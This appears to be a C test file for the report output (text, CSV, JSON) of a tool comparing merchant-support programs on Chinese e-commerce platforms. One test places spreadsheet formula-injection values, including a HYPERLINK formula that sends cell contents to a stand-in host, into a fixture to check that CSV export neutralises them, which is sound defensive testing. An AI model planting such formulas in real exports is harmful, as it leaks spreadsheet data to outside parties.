/* SPDX-License-Identifier: GPL-3.0-or-later */
#define G_LOG_DOMAIN "test-engine"

#include "config.h"

#include <glib/gstdio.h>
#include <locale.h>

#include "engine-fixture.h"
#include "sc-document.h"

/* Text, CSV and JSON reports. */

static GBytes *
report_bytes (ScReportFormat format)
{
  g_autoptr(ScProfile) p = base_profile ();
  g_autoptr(ScResult) r = evaluate (p);

  return sc_report_build (fixture_catalog, p, r, format, "en");
}

static void
test_locale_determinism (void)
{
  const char *const locales[] = { "zh_CN.UTF-8", "de_DE.UTF-8" };
  g_autoptr(GBytes) text = NULL, csv = NULL, json = NULL;
  g_autofree char *saved = g_strdup (setlocale (LC_ALL, NULL));
  GString *skipped = g_string_new (NULL);

  setlocale (LC_ALL, "C.UTF-8");
  text = report_bytes (SC_REPORT_TEXT);
  csv = report_bytes (SC_REPORT_CSV);
  json = report_bytes (SC_REPORT_JSON);
  {
    g_autoptr(GBytes) again = report_bytes (SC_REPORT_JSON);

    g_assert_true (g_bytes_equal (json, again));
  }
  g_assert_nonnull (strstr (g_bytes_get_data (json, NULL), "\"fee-gross\":4650.00"));

  for (guint i = 0; i < G_N_ELEMENTS (locales); i++)
    {
      if (setlocale (LC_ALL, locales[i]) == NULL)
        {
          g_string_append_printf (skipped, " %s", locales[i]);
          continue;
        }
      /* Only the numbers are under test: keep messages untranslated. */
      setlocale (LC_MESSAGES, "C.UTF-8");
      {
        g_autoptr(GBytes) t = report_bytes (SC_REPORT_TEXT);
        g_autoptr(GBytes) c = report_bytes (SC_REPORT_CSV);
        g_autoptr(GBytes) j = report_bytes (SC_REPORT_JSON);

        g_assert_true (g_bytes_equal (text, t));
        g_assert_true (g_bytes_equal (csv, c));
        g_assert_true (g_bytes_equal (json, j));
      }
    }
  setlocale (LC_ALL, saved);
  if (skipped->len > 0)
    {
      g_autofree char *msg = g_strdup_printf ("locale not installed:%s (generate with locale-gen)", skipped->str);

      g_test_skip (msg);
    }
  g_string_free (skipped, TRUE);
}

static void
test_csv_format (void)
{
  g_autoptr(GBytes) csv = report_bytes (SC_REPORT_CSV);
  gsize size;
  const char *data = g_bytes_get_data (csv, &size);

  /* UTF-8 BOM, CRLF line ends, no bare LF */
  g_assert_cmpuint (size, >, 3);
  g_assert_cmpint (memcmp (data, "\xEF\xBB\xBF", 3), ==, 0);
  g_assert_nonnull (strstr (data, "\r\n"));
  for (gsize i = 0; i < size; i++)
    if (data[i] == '\n')
      g_assert_cmpint (i > 0 && data[i - 1] == '\r', ==, TRUE);
  /* A reason with a comma is quoted (RFC 4180). */
  g_assert_nonnull (strstr (data, ",\"Rank, top N \"\"leaderboard\"\"\","));
}

/* Fields of one CSV line (RFC 4180: commas inside quotes do not count). */
static guint
csv_fields (const char *line)
{
  guint n = 1;
  gboolean quoted = FALSE;

  for (const char *p = line; *p != '\0' && *p != '\r'; p++)
    if (*p == '"')
      quoted = !quoted;
    else if (*p == ',' && !quoted)
      n++;
  return n;
}

/*
 * The reports on the fixture (see test_expected for the numbers): the
 * program beta.expected lists its two headlines under its heading and
 * never as measures; its expected measures show their value marked as
 * expected, apart from the total, in text, CSV and JSON.
 */
static void
test_report_expected_and_headlines (void)
{
  g_autoptr(GBytes) text_bytes = report_bytes (SC_REPORT_TEXT);
  g_autoptr(GBytes) csv_bytes = report_bytes (SC_REPORT_CSV);
  g_autoptr(GBytes) json_bytes = report_bytes (SC_REPORT_JSON);
  const char *text = g_bytes_get_data (text_bytes, NULL);
  const char *csv = g_bytes_get_data (csv_bytes, NULL);
  const char *json = g_bytes_get_data (json_bytes, NULL);
  g_auto(GStrv) rows = g_strsplit (csv, "\n", -1);
  guint n_header, n_headline_rows = 0;

  /* Text: the table's totals leave the expected 4,475 out (Beta: 775 + 60)
   * and a row of its own shows it. */
  g_assert_nonnull (strstr (text, "Total value               6,590.51      835.00\n"));
  g_assert_nonnull (strstr (text, "Expected, not in force        0.00    4,475.00\n"));
  g_assert_nonnull (strstr (text, "[Beta] Beta with expected measures — Total value 60.00\n"
                                  "  Expected (预计), not in the total: 4,375.00\n"
                                  "  Platform-wide figures (all merchants together, never one merchant's value):\n"
                                  "    ≡ Platform total: over 32 billion yuan saved for merchants in a year\n"
                                  "    ≡ 1–2 million items made a day, all merchants together\n"
                                  "  ✓ Expected cash — Eligible (expected, not yet in force)\n"
                                  "      Cash (expected): 500.00\n"
                                  "      · Expected (预计) from 2026-02-01, not yet in force\n"));
  g_assert_nonnull (strstr (text, "      Fee reduction (expected): 3,875.00\n"));
  /* Expected and not counted (the one in force counts): one pair of brackets. */
  g_assert_nonnull (strstr (text, "  ✓ Expected promo coupon — Eligible (not counted; expected, not yet in force)\n"));
  g_assert_null (strstr (text, ") ("));
  /* A headline is no measure: never with a status mark. */
  g_assert_null (strstr (text, "✗ Platform total"));
  g_assert_null (strstr (text, "· Platform total"));
  /* Programs without expected value or headlines look as before. */
  g_assert_nonnull (strstr (text, "[Beta] Beta old — Total value 155.00\n  ✓ Old waiver"));

  /* CSV: new columns at the end, every row as wide as the header. */
  g_assert_true (g_str_has_suffix (rows[0], ",basis,up-to,cut-by-group,cut-by-cap,reasons,expected,expected-total-value,figures,"
                                            "kept,tied,locked-value-worth,ranking-value\r"));
  n_header = csv_fields (rows[0]);
  for (guint i = 1; rows[i] != NULL && *rows[i] != '\0'; i++)
    {
      g_assert_cmpuint (csv_fields (rows[i]), ==, n_header);
      if (g_str_has_prefix (rows[i], "headline,"))
        n_headline_rows++;
      if (g_str_has_prefix (rows[i], "measure,beta,beta.expected,Beta with expected measures,expected-cash,"))
        {
          /* its cash column (the 11th) is 0, its expected value at the end */
          g_auto(GStrv) f = g_strsplit (rows[i], ",", -1);

          g_assert_cmpstr (f[10], ==, "0.00");
          g_assert_true (g_str_has_suffix (rows[i], ",true,500.00,,0.00,0.00,,\r"));
        }
      if (g_str_has_prefix (rows[i], "measure,alpha,"))
        g_assert_nonnull (strstr (rows[i], ",false,0.00,,"));
    }
  g_assert_cmpuint (n_headline_rows, ==, 2);
  g_assert_nonnull (strstr (csv, "\r\nheadline,beta,beta.expected,Beta with expected measures,,"
                                 "Platform total: over 32 billion yuan saved for merchants in a year,,,,,,,,,,,,,,stated,,,,"));
  g_assert_nonnull (strstr (csv, ",,,1000000 item/day; 2000000 item/day,,,,\r\n"));
  g_assert_nonnull (strstr (csv, "\r\nprogram,beta,beta.expected,Beta with expected measures,,,in-force,"));
  g_assert_nonnull (strstr (csv, ",,,,,4375.00,,"));

  /* JSON: the old keys as they were, the new ones beside them. */
  g_assert_nonnull (strstr (json, "\"headlines\":[{\"text\":\"Platform total: over 32 billion yuan saved for merchants in a year\","
                                  "\"quote\":\"过去一年该平台累计为商家节省成本超过320亿元,每日生成100万—200万条素材\","
                                  "\"source\":\"t\",\"figures\":[{\"value\":32000000000.00,\"unit\":\"yuan\",\"per\":null}]},"));
  g_assert_nonnull (strstr (json, "{\"value\":2000000.00,\"unit\":\"item\",\"per\":\"day\"}"));
  g_assert_nonnull (strstr (json, "\"headlines\":[]"));
  g_assert_nonnull (strstr (json, "\"id\":\"expected-cash\",\"title\":\"Expected cash\",\"status\":\"eligible\","));
  g_assert_nonnull (strstr (json, "\"basis\":[\"stated\",\"expected\"],\"source\":\"t\",\"totals\":{\"fee-gross\":0.00,\"fee-reduction\":0.00,"
                                  "\"fee-net\":0.00,\"cash\":0.00,"));
  g_assert_nonnull (strstr (json, "\"policy_status\":\"expected\",\"expected\":true,\"expected_from\":\"2026-02-01\","
                                  "\"expected_totals\":{\"fee-gross\":0.00,\"fee-reduction\":0.00,\"fee-net\":0.00,\"cash\":500.00,"));
  g_assert_nonnull (strstr (json, "\"policy_status\":\"in-force\",\"expected\":false,\"expected_from\":null,"));
  g_assert_nonnull (strstr (json, "\"total-value\":4475.00}"));
}

/* Terminal columns: 汉字 and full-width punctuation take two, combining
 * marks none. The text table and --list-programs pad with these. */
static void
test_text_width (void)
{
  const struct { const char *text; gsize width; } cases[] = {
    { "", 0 },
    { "Total value", 11 },
    { "快手", 4 },
    { "（不计入）", 10 },
    { "淘宝天猫 25", 11 },
    { "e\xCC\x81", 1 },          /* e + combining acute accent */
    { "a\xE2\x80\x8B" "b", 2 },  /* zero-width space */
    { "9,823.05", 8 },
    { "\xFF" "ab", 3 },          /* not UTF-8: one column a byte */
  };
  g_autoptr(GString) s = g_string_new (NULL);

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_test_message ("“%s”", cases[i].text);
      g_assert_cmpuint (sc_text_width (cases[i].text), ==, cases[i].width);
    }
  g_assert_cmpuint (sc_text_width (NULL), ==, 0);

  sc_text_pad (s, "快手", 6, TRUE);
  g_assert_cmpstr (s->str, ==, "  快手");
  g_string_truncate (s, 0);
  sc_text_pad (s, "快手", 6, FALSE);
  g_assert_cmpstr (s->str, ==, "快手  ");
  g_string_truncate (s, 0);
  /* Wider than the column: whole, never cut. */
  sc_text_pad (s, "淘宝天猫", 4, TRUE);
  g_assert_cmpstr (s->str, ==, "淘宝天猫");
}

/* Display columns where each run of non-space text ends, counted here
 * without the program's helper. */
static GArray *
token_ends (const char *line)
{
  GArray *ends = g_array_new (FALSE, FALSE, sizeof (guint));
  guint col = 0;

  for (const char *p = line; *p != '\0'; p = g_utf8_next_char (p))
    {
      gunichar c = g_utf8_get_char (p);
      const char *next = g_utf8_next_char (p);

      col += g_unichar_iszerowidth (c) ? 0 : g_unichar_iswide (c) ? 2 : 1;
      if (c != ' ' && (*next == ' ' || *next == '\0'))
        g_array_append_val (ends, col);
    }
  return ends;
}

/* The side-by-side table in Chinese: platform names (抖音, 淘宝天猫) and
 * the numbers under them end in the same terminal column. */
static void
test_text_table_zh (void)
{
  g_autoptr(ScCatalog) catalog = sc_catalog_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(ScProfile) p = sc_profile_load_example (SC_PROFILE_DEFAULT_EXAMPLE, &error);
  g_autoptr(ScResult) r = NULL;
  g_autoptr(GBytes) text = NULL;
  g_auto(GStrv) lines = NULL;
  g_autoptr(GArray) heading = NULL;
  ScEngineOptions options = { .lang = "zh" };
  guint first = 0, n_platforms, n_rows = 0;

  g_assert_no_error (error);
  sc_catalog_add_defaults (catalog);
  r = sc_engine_evaluate (catalog, p, &options);
  n_platforms = r->platforms->len;
  g_assert_cmpuint (n_platforms, >=, 2);
  text = sc_report_build (catalog, p, r, SC_REPORT_TEXT, "zh");
  lines = g_strsplit (g_bytes_get_data (text, NULL), "\n", -1);

  /* The heading is the first line after the first blank line. */
  while (lines[first] != NULL && *lines[first] != '\0')
    first++;
  g_assert_nonnull (lines[first]);
  first++;
  g_test_message ("%s", lines[first]);
  g_assert_nonnull (strstr (lines[first], "抖音"));
  heading = token_ends (lines[first]);
  g_assert_cmpuint (heading->len, ==, n_platforms);
  for (guint i = first + 1; lines[i] != NULL && g_ascii_isdigit (lines[i][strlen (lines[i]) - 1]); i++)
    {
      g_autoptr(GArray) ends = token_ends (lines[i]);

      g_test_message ("%s", lines[i]);
      n_rows++;
      g_assert_cmpuint (ends->len, >=, n_platforms);
      for (guint c = 0; c < n_platforms; c++)
        g_assert_cmpuint (g_array_index (ends, guint, ends->len - n_platforms + c), ==,
                          g_array_index (heading, guint, c));
    }
  g_assert_cmpuint (n_rows, >=, 8);
}

/* The assumption a user's own fee makes names the platform as the report
 * does (its baseline's name in the result's language), never its id. */
static void
test_override_names_platform (void)
{
  const struct { const char *lang, *name; } cases[] = { { "en", "Alpha" }, { "zh", "阿尔法" } };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(ScProfile) p = base_profile ();
      g_autoptr(ScResult) r = NULL;
      g_autoptr(GError) error = NULL;
      ScEngineOptions options = { .lang = cases[i].lang };
      gboolean found = FALSE;

      sc_profile_set_override (p, "alpha", SC_FEE_COMMISSION, NULL, 0.04, &error);
      g_assert_no_error (error);
      r = sc_engine_evaluate (fixture_catalog, p, &options);
      for (guint a = 0; a < r->assumptions->len; a++)
        {
          const char *line = g_ptr_array_index (r->assumptions, a);

          g_test_message ("%s", line);
          g_assert_false (g_str_has_prefix (line, "alpha "));
          /* The rate reads as a percentage: 0.04 → 4%. */
          if (g_str_has_prefix (line, cases[i].name) && strstr (line, "commission: 4% (your override)") != NULL)
            found = TRUE;
        }
      g_assert_true (found);
    }
}

/* Counts read as counts: traffic in its unit's name, no “.00” on
 * exposures; money grouped; reasons in yuan and percent. */
static void
test_text_report_units (void)
{
  g_autoptr(GBytes) bytes = report_bytes (SC_REPORT_TEXT);
  const char *text = g_bytes_get_data (bytes, NULL);

  g_test_message ("%s", text);
  /* "live": 28,000 exposures (tests/data/engine/engine-basic.xml) */
  g_assert_nonnull (strstr (text, "Traffic units: 28,000 exposures\n"));
  g_assert_nonnull (strstr (text, "Exposures: 28,000\n"));
  g_assert_null (strstr (text, "28000.00"));
  g_assert_null (strstr (text, " exposure\n"));
  /* The table: exposures whole, money with two decimals. */
  g_assert_nonnull (strstr (text, "Exposures  "));
  g_assert_null (strstr (text, "28,000.00"));
  g_assert_nonnull (strstr (text, "560.00"));
  /* Program headings without the raw id. */
  g_assert_nonnull (strstr (text, "[Alpha] Alpha test program — Total value "));
  g_assert_null (strstr (text, "(alpha.test)"));
  /* Grant reasons say what the amount is in. */
  g_assert_nonnull (strstr (text, "up to 240 yuan in cash on 2026-01-01"));
  g_assert_nonnull (strstr (text, "28,000 exposures on 2026-01-01"));
}

/* The report in Chinese, as a client reads it: full-width parentheses,
 * 流量券 rather than “traffic-coupon”, whole exposure counts. */
static void
test_cli_report_zh (void)
{
  g_autofree char *exe = built_path ("src", "shangce", NULL);
  g_autofree char *localedir = built_path ("po", NULL);
  g_autofree char *mo = g_build_filename (localedir, "zh_CN", "LC_MESSAGES", "shangce.mo", NULL);
  g_auto(GStrv) env = g_get_environ ();
  g_autofree char *out = NULL, *err = NULL;
  g_autoptr(GError) error = NULL;
  int status = 0;

  if (!g_file_test (exe, G_FILE_TEST_IS_EXECUTABLE) || !g_file_test (mo, G_FILE_TEST_IS_REGULAR))
    {
      g_test_skip ("shangce or its zh_CN catalogue is not built");
      return;
    }
  env = g_environ_setenv (env, "SHANGCE_LOCALEDIR", localedir, TRUE);
  g_spawn_sync (NULL, (char *[]) { exe, (char *) "--report", (char *) "--lang", (char *) "zh_CN", NULL }, env,
                G_SPAWN_DEFAULT, NULL, NULL, &out, &err, &status, &error);
  g_assert_no_error (error);
  g_assert_true (g_spawn_check_wait_status (status, NULL));
  g_test_message ("%s", out);

  /* Star Plan 2026: two return-shipping waivers not counted (best-of group). */
  g_assert_nonnull (strstr (out, "符合条件（不计入）"));
  g_assert_null (strstr (out, "(不计入)"));
  /* 4,600 traffic coupons and 28,000 exposures, in words. */
  g_assert_nonnull (strstr (out, "流量单位：4,600 流量券"));
  g_assert_nonnull (strstr (out, "次曝光"));
  g_assert_null (strstr (out, "traffic-coupon"));
  g_assert_null (strstr (out, " exposure\n"));
  /* Exposures are a count: 89,000 in the table, never 89,000.00. */
  g_assert_null (strstr (out, "89,000.00"));
  g_assert_nonnull (strstr (out, "89,000"));
  /* Headings in Chinese brackets, without the program id. */
  g_assert_nonnull (strstr (out, "【快手】星耀计划"));
  g_assert_null (strstr (out, "(kuaishou.star-plan-2026)"));
  /* Assumptions name platforms, not ids. */
  g_assert_null (strstr (out, "  - kuaishou "));
  /* The expected deposit discount and the platform-wide figures, in Chinese. */
  g_assert_nonnull (strstr (out, "未量化（预计，尚未生效）\n      · 预计自 2026-03-01 起生效，尚未生效\n"));
  g_assert_nonnull (strstr (out, "  平台整体数据（全体商家合计，并非单个商家可得）：\n"
                                 "    ≡ 过去一年各项举措累计为商家节省成本超过320亿元（全平台商家合计）\n"));
  g_assert_null (strstr (out, "Expected"));
}

/*
 * Platform totals are headlines, not measures: the 2025 nine measures'
 * "over 32 billion yuan saved" is listed under the program's heading of the
 * report, and no measure says the merchant missed it.
 */
static void
test_bundled_headlines_report (void)
{
  g_autoptr(ScProfile) p = star_profile ("2025-04-01");
  g_autoptr(ScResult) r = NULL;
  g_autoptr(GBytes) bytes = NULL;
  const char *text;

  set (p, "store-type", "enterprise");
  set (p, "category", "apparel");
  set (p, "monthly-gmv", "80000");
  r = evaluate_bundled (p);
  g_assert_null (sc_result_find_measure (r, "douyin.nine-measures-2025", "m0-total-savings"));
  bytes = sc_report_build (bundled_catalog, p, r, SC_REPORT_TEXT, "en");
  text = g_bytes_get_data (bytes, NULL);
  g_assert_nonnull (strstr (text, "[Douyin] Nine merchant-support measures (2025) — Total value "));
  g_assert_nonnull (strstr (text, "  Platform-wide figures (all merchants together, never one merchant's value):\n"
                                  "    ≡ Over 32 billion yuan of costs saved for merchants in one year by these measures (all merchants together)\n"));
  g_assert_null (strstr (text, "Over 32 billion yuan saved across all merchants"));
  g_assert_null (strstr (text, "Platform total: over 32 billion"));
  g_assert_nonnull (strstr (text, "    ≡ A coupon subsidy plan of ten billion yuan"));
}

/* Where the leading platform changes with the monthly GMV (issue 13): the
 * number itself, rounded for a reader in text, exact in JSON and CSV; and
 * a report made without a sweep says nothing of it. Alpha 9,000 + 0.05·x
 * against Beta 800 + 0.18·x: Beta leads from 63,076.92 on. */
static void
test_report_crossovers (void)
{
  static const char *const platforms[] = { "alpha", "beta" };
  g_autoptr(ScProfile) p = base_profile ();
  g_autoptr(ScResult) r = evaluate (p);
  double points[12], values[24], flat[24];
  g_autoptr(ScSweep) sweep = NULL;
  g_autoptr(ScSweep) none = NULL;
  g_autoptr(GBytes) text = NULL, json = NULL, csv = NULL, plain = NULL, plain_json = NULL, steady = NULL;
  const char *csv_text;
  g_auto(GStrv) rows = NULL;

  for (guint i = 0; i < 12; i++)
    {
      points[i] = 10000.0 * (i + 1);
      values[i] = 9000 + 0.05 * points[i];
      values[12 + i] = 800 + 0.18 * points[i];
      flat[i] = 9000;
      flat[12 + i] = 800 + 0.05 * points[i];
    }
  sweep = hand_sweep (platforms, 2, 12, points, values);
  none = hand_sweep (platforms, 2, 12, points, flat);
  text = sc_report_build_with_sweep (fixture_catalog, p, r, sweep, NULL, SC_REPORT_TEXT, "en");
  g_assert_nonnull (strstr (g_bytes_get_data (text, NULL),
                            "\nWhere the leading platform changes\n"
                            "  Beta leads above a monthly GMV of about 63,100 yuan (Alpha below)\n"
                            "  (monthly GMV tried from 10,000 to 120,000 yuan, everything else as in the profile)\n"
                            "\nMeasures\n"));
  steady = sc_report_build_with_sweep (fixture_catalog, p, r, none, NULL, SC_REPORT_TEXT, "en");
  g_assert_nonnull (strstr (g_bytes_get_data (steady, NULL),
                            "  Alpha leads at every monthly GMV from 10,000 to 120,000 yuan\n"));

  json = sc_report_build_with_sweep (fixture_catalog, p, r, sweep, NULL, SC_REPORT_JSON, "en");
  g_assert_nonnull (strstr (g_bytes_get_data (json, NULL),
                            "\"gmv_crossovers\":{\"from\":10000.00,\"to\":120000.00,\"leader_at_from\":\"alpha\","
                            "\"crossovers\":[{\"monthly_gmv\":63076.92,\"before\":\"alpha\",\"after\":\"beta\","
                            "\"score\":12153.85}]}"));

  csv = sc_report_build_with_sweep (fixture_catalog, p, r, sweep, NULL, SC_REPORT_CSV, "en");
  csv_text = g_bytes_get_data (csv, NULL);
  g_assert_nonnull (strstr (csv_text, "\r\ncrossover,beta,,,alpha,\"Beta leads above a monthly GMV of about 63,100 yuan (Alpha below)\","));
  g_assert_nonnull (strstr (csv_text, ",63076.92 yuan/month,"));
  /* As many cells as the header (no comma inside the quoted cells but the sentence's). */
  rows = g_strsplit (csv_text, "\r\n", -1);
  {
    guint header = 0, last = 0;
    const char *row = NULL;

    for (guint i = 0; rows[i] != NULL && row == NULL; i++)
      if (g_str_has_prefix (rows[i], "crossover,"))
        row = rows[i];
    g_assert_nonnull (row);

    for (const char *c = rows[0]; *c; c++)
      header += *c == ',';
    for (const char *c = row; *c; c++)
      last += *c == ',';
    g_assert_cmpuint (last, ==, header + 1);
  }

  plain = sc_report_build (fixture_catalog, p, r, SC_REPORT_TEXT, "en");
  g_assert_null (strstr (g_bytes_get_data (plain, NULL), "Where the leading platform changes"));
  plain_json = sc_report_build (fixture_catalog, p, r, SC_REPORT_JSON, "en");
  g_assert_nonnull (strstr (g_bytes_get_data (plain_json, NULL), "\"gmv_crossovers\":null"));
}

/* Formula injection (issue 15, item 12): a program name or measure title
 * that a spreadsheet would run is written as text, with a leading '. */
static void
test_csv_formula_injection (void)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "data", "engine", "engine-basic.xml", NULL);
  g_autofree char *xml = NULL;
  g_autofree char *dir = g_dir_make_tmp ("shangce-csv-XXXXXX", NULL);
  g_autofree char *hostile = g_build_filename (dir, "hostile.xml", NULL);
  g_autoptr(GString) text = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(ScProfile) p = base_profile ();
  g_autoptr(ScResult) r = NULL;
  g_autoptr(GBytes) csv = NULL;
  ScCatalog *catalog = sc_catalog_new ();
  const char *data;

  g_assert_true (g_file_get_contents (path, &xml, NULL, NULL));
  text = g_string_new (xml);
  g_string_replace (text, "Alpha test program", "=HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;x&quot;)", 1);
  g_string_replace (text, "First-sale cash", "@SUM(A1:A9)", 1);
  g_string_replace (text, "Live traffic", "-2+3", 1);
  g_assert_true (g_file_set_contents (hostile, text->str, -1, NULL));
  g_assert_true (sc_catalog_add_file (catalog, hostile, SC_ORIGIN_COMMAND_LINE, &error));
  g_assert_no_error (error);

  {
    ScEngineOptions options = { .lang = "en" };

    r = sc_engine_evaluate (catalog, p, &options);
  }
  csv = sc_report_build (catalog, p, r, SC_REPORT_CSV, "en");
  data = g_bytes_get_data (csv, NULL);
  g_assert_nonnull (strstr (data, ",\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"x\"\")\","));
  g_assert_null (strstr (data, ",\"=HYPERLINK"));
  g_assert_nonnull (strstr (data, ",'@SUM(A1:A9),"));
  g_assert_null (strstr (data, ",@SUM"));
  g_assert_nonnull (strstr (data, ",'-2+3,"));
  /* Negative amounts stay numbers. */
  g_assert_null (strstr (data, ",'-0"));
  g_clear_pointer (&r, sc_result_free);
  sc_catalog_free (catalog);
  g_unlink (hostile);
  g_rmdir (dir);
}

/* An export from a document (the window's, the command line's) hands the
 * report the document's range analysis: the report uses it instead of
 * working out a second one, and reads the same either way. One in another
 * language, or of another result, is not used. */
static void
test_report_reuses_document_ranges (void)
{
  const ScReportFormat formats[] = { SC_REPORT_TEXT, SC_REPORT_CSV, SC_REPORT_JSON };
  g_autoptr(ScDocument) doc = sc_document_new ();
  g_autoptr(ScRangeAnalysis) mine = NULL, zh = NULL, stale = NULL, other_ranges = NULL;
  g_autoptr(ScProfile) other = NULL;
  g_autoptr(ScResult) other_result = NULL;
  g_autoptr(GBytes) marked = NULL;
  g_autofree char *label = NULL;
  const ScProfile *p;
  const ScResult *r;
  ScRangeAnalysis *cached;
  ScRangeDriver *flip;
  ScCatalog *catalog;
  ScEngineOptions options = { .lang = "en" };

  sc_document_load_default_programs (doc);
  sc_document_set_lang (doc, SC_LANG_EN);
  sc_document_set_profile (doc, sc_profile_load_example ("new-enterprise-apparel", NULL), NULL);
  catalog = sc_document_get_catalog (doc);
  p = sc_document_get_profile (doc);
  r = sc_document_get_result (doc);
  cached = (ScRangeAnalysis *) sc_document_get_ranges (doc);

  /* Taken as it is: no analysis of its own. */
  g_assert_true (sc_report_resolve_ranges (catalog, p, r, cached, "en", &mine) == cached);
  g_assert_null (mine);
  for (guint f = 0; f < G_N_ELEMENTS (formats); f++)
    {
      g_autoptr(GBytes) own = sc_report_build_with_sweep (catalog, p, r, NULL, NULL, formats[f], "en");
      g_autoptr(GBytes) reused = sc_report_build_with_sweep (catalog, p, r, NULL, cached, formats[f], "en");

      g_assert_true (g_bytes_equal (own, reused));
    }

  /* The report reads the analysis it is given: a driver renamed in the
   * cached one shows in the text. */
  g_assert_cmpuint (cached->drivers->len, >, 0);
  flip = g_ptr_array_index (cached->drivers, 0);
  for (guint i = 1; i < cached->drivers->len && !flip->flips; i++)
    flip = g_ptr_array_index (cached->drivers, i);
  g_assert_true (flip->flips);
  label = flip->label;
  flip->label = g_strdup ("Renamed in the document's analysis");
  marked = sc_report_build_with_sweep (catalog, p, r, NULL, cached, SC_REPORT_TEXT, "en");
  g_free (flip->label);
  flip->label = g_steal_pointer (&label);
  g_assert_nonnull (strstr (g_bytes_get_data (marked, NULL), "– Renamed in the document's analysis: "));

  /* Labels in English are no use to a Chinese report. */
  g_assert_true (sc_report_resolve_ranges (catalog, p, r, cached, "zh", &zh) == zh);
  g_assert_nonnull (zh);
  g_assert_cmpstr (zh->lang, ==, "zh");

  /* An analysis of another estimate (the profile before an edit) is stale. */
  other = sc_profile_copy (p);
  g_assert_true (sc_profile_set_number (other, SC_FIELD_MONTHLY_GMV, 2 * sc_profile_get_number (p, SC_FIELD_MONTHLY_GMV, 0), NULL));
  other_result = sc_engine_evaluate (catalog, other, &options);
  other_ranges = sc_range_analyse (catalog, other, other_result, &options);
  g_assert_true (sc_report_resolve_ranges (catalog, p, r, other_ranges, "en", &stale) == stale);
  g_assert_nonnull (stale);
  g_assert_cmpfloat (stale->central[stale->leader], ==, cached->central[cached->leader]);
}

int
main (int   argc,
      char *argv[])
{
  engine_fixture_init (&argc, &argv);

  g_test_add_func ("/engine/report/locale", test_locale_determinism);
  g_test_add_func ("/engine/report/csv", test_csv_format);
  g_test_add_func ("/engine/report/csv-formula-injection", test_csv_formula_injection);
  g_test_add_func ("/engine/report/expected-and-headlines", test_report_expected_and_headlines);
  g_test_add_func ("/engine/report/text-width", test_text_width);
  g_test_add_func ("/engine/report/text-table-zh", test_text_table_zh);
  g_test_add_func ("/engine/report/units", test_text_report_units);
  g_test_add_func ("/engine/report/cli-zh", test_cli_report_zh);
  g_test_add_func ("/engine/override-names-platform", test_override_names_platform);
  g_test_add_func ("/engine/report/headlines-bundled", test_bundled_headlines_report);
  g_test_add_func ("/engine/report/crossovers", test_report_crossovers);
  g_test_add_func ("/engine/report/document-ranges", test_report_reuses_document_ranges);

  return engine_fixture_run ();
}
